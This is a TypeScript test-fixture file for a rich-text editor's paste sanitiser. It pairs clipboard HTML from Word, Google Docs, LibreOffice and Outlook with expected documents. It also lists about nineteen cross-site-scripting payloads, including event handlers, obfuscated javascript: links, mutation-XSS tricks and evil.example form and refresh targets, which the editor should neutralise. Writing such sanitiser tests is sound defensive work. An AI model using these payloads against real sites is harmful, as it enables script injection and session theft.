/** What is on the clipboard after copying out of real programs, and what somebody could have put there. `keeps`: text that survives. */
export type Paste = { name: string; html: string; keeps: string[]; doc?: unknown }

const p = (...content: unknown[]) => ({ type: 'paragraph', content })
const t = (text: string, ...marks: string[]) => ({
	type: 'text',
	text,
	...(marks.length > 0 && { marks: marks.map((type) => ({ type })) })
})
const li = (...content: unknown[]) => ({ type: 'listItem', content })
const cell = (type: string, text: string) => ({ type, attrs: { colspan: 1, rowspan: 1 }, content: [p(t(text))] })

const wordItem = (level: number, mark: string, text: string) =>
	`<p class=MsoListParagraphCxSpMiddle style='margin-left:36.0pt;text-indent:-18.0pt;mso-list:l0 level${level} lfo1'><![if !supportLists]><span style='font-family:Symbol;mso-fareast-font-family:Symbol'><span style='mso-list:Ignore'>${mark}<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;</span></span></span><![endif]>${text}<o:p></o:p></p>`

export const REAL_PASTES: Paste[] = [
	{
		name: 'Word, with lists within lists',
		html: `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Microsoft Word 15"><style><!-- @font-face {font-family:Calibri;} p.MsoNormal {margin:0cm} --></style><!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--></head><body lang=FR><!--StartFragment--><p class=MsoTitle>Assemblée</p><p class=MsoNormal><b style='mso-bidi-font-weight:normal'>Ordre<o:p></o:p></b></p>${wordItem(1, '·', 'Bilan')}${wordItem(2, 'o', 'Comptes')}${wordItem(1, '·', 'Élections')}${wordItem(1, '1.', 'Pot')}<!--EndFragment--></body></html>`,
		keeps: ['Assemblée', 'Comptes'],
		doc: [
			{ type: 'heading', attrs: { level: 1 }, content: [t('Assemblée')] },
			p(t('Ordre', 'bold')),
			{
				type: 'bulletList',
				content: [li(p(t('Bilan')), { type: 'bulletList', content: [li(p(t('Comptes')))] }), li(p(t('Élections')))]
			},
			{ type: 'orderedList', attrs: { start: 1 }, content: [li(p(t('Pot')))] }
		]
	},
	{
		name: 'Google Docs',
		html: `<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-1"><h2 dir="ltr" style="line-height:1.38"><span style="font-size:16pt;color:#000">Stage</span></h2><p dir="ltr"><span style="font-weight:400">Le </span><span style="font-weight:700">samedi</span><span style="font-style:italic"> matin</span> <a href="https://club.fr/stage" style="text-decoration:none;"><span style="color:#1155cc;text-decoration:underline">ici</span></a></p><ul><li dir="ltr" aria-level="1"><p dir="ltr" role="presentation"><span>Kimono</span></p></li></ul></b>`,
		keeps: ['samedi'],
		doc: [
			{ type: 'heading', attrs: { level: 2 }, content: [t('Stage')] },
			p(t('Le '), t('samedi', 'bold'), t(' matin', 'italic'), t(' '), {
				type: 'text',
				text: 'ici',
				marks: [{ type: 'link', attrs: { href: 'https://club.fr/stage' } }]
			}),
			{ type: 'bulletList', content: [li(p(t('Kimono')))] }
		]
	},
	{
		name: 'LibreOffice, a table',
		html: `<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"/><style type="text/css">td p { background: transparent }</style></head><body lang="fr-FR"><table width="643" cellpadding="4" cellspacing="0"><col width="313"/><col width="313"/><thead><tr valign="top"><th width="313" style="border:1px solid #000"><p>Heure</p></th><th><p>Lieu</p></th></tr></thead><tbody><tr><td><p><font face="Arial">18 h</font></p></td><td><p>MJC</p></td></tr></tbody></table></body></html>`,
		keeps: ['18 h'],
		doc: [
			{
				type: 'table',
				content: [
					{ type: 'tableRow', content: [cell('tableHeader', 'Heure'), cell('tableHeader', 'Lieu')] },
					{ type: 'tableRow', content: [cell('tableCell', '18 h'), cell('tableCell', 'MJC')] }
				]
			}
		]
	},
	{
		name: 'Outlook, a mail laid out by tables',
		html: `<table role="presentation" width="100%"><tr><td><table border=0><tr><td><p class=MsoNormal>Bonjour<o:p></o:p></p></td></tr><tr><td><img width=1 height=1 src="https://pixel.example/o.gif"><p class=MsoNormal>à samedi</p></td></tr></table></td></tr></table>`,
		keeps: ['Bonjour', 'à samedi'],
		doc: [p(t('Bonjour')), p(t('à samedi'))]
	},
	{
		name: 'a web page',
		html: `<article><h3>Actualités</h3><div onclick="alert(1)">Un <strong>beau</strong><br>jour <img src="https://example.org/photo.jpg" alt="photo"></div><pre>a\n b</pre><blockquote>cité</blockquote><hr></article>`,
		keeps: ['Actualités', 'beau', 'cité'],
		doc: [
			{ type: 'heading', attrs: { level: 2 }, content: [t('Actualités')] },
			p(t('Un '), t('beau', 'bold'), { type: 'hardBreak' }, t('jour')),
			p(t('a'), { type: 'hardBreak' }, t('b')),
			p(t('cité'))
		]
	}
]

const XSS = 'window.__ran = true'
export const HOSTILE_PASTES: Paste[] = [
	['script', `<p>a<script>${XSS}</script>b</p>`],
	['image that fails', `<p>ab<img src=x onerror="${XSS}"></p>`],
	[
		'svg',
		`<p>ab</p><svg onload="${XSS}"><script>${XSS}</script><a xlink:href="javascript:${XSS}"><text>x</text></a></svg>`
	],
	['javascript link', `<p><a href="javascript:${XSS}">ab</a></p>`],
	['javascript link, hidden', `<p><a href=" java&#10;script&colon;${XSS}">ab</a></p>`],
	['data link', `<p><a href="data:text/html,<script>${XSS}</script>">ab</a></p>`],
	['handlers', `<p onmouseover="${XSS}" onfocus="${XSS}" tabindex=1 autofocus>ab</p>`],
	[
		'style',
		`<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example) }</style><p style="background:url(javascript:${XSS})">ab</p>`
	],
	['iframe', `<iframe srcdoc="<script>parent.${XSS}</script>"></iframe><p>ab</p>`],
	['object', `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example"><p>ab</p>`],
	[
		'form',
		`<form action="https://evil.example"><p>ab</p><input name=q autofocus onfocus="${XSS}"><button formaction="javascript:${XSS}">x</button></form>`
	],
	[
		'meta',
		`<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><p>ab</p>`
	],
	['template', `<template><img src=x onerror="${XSS}"></template><p>ab</p>`],
	[
		'mathml',
		`<math><mtext><table><mglyph><style><img src=x onerror="${XSS}"></style></mglyph></table></mtext></math><p>ab</p>`
	],
	['noscript', `<noscript><p title="</noscript><img src=x onerror=${XSS}>"></noscript><p>ab</p>`],
	['custom element', `<x-evil onclick="${XSS}"><p>ab</p></x-evil>`],
	['video', `<video src="https://evil.example/x.mp4" onerror="${XSS}" autoplay></video><p>ab</p>`],
	[
		'a picture that says it is ours',
		`<p>ab</p><img data-content-id='x" onerror="${XSS}' src="https://evil.example/x">`
	],
	['slice of another editor', `<div data-pm-slice='0 0 ["script",{"x":1}]'><p>ab</p></div>`]
].map(([name = '', html = '']) => ({ name, html, keeps: ['ab'] }))
